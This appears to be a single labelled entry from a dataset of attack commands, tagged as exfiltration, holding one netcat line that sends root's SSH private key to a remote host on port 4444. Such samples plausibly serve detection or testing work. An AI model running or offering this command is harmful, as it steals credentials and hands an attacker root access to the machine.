# description: Sends root's SSH private key to a remote host with nc.
# family: exfiltration
nc 203.0.113.5 4444 < /root/.ssh/id_rsa
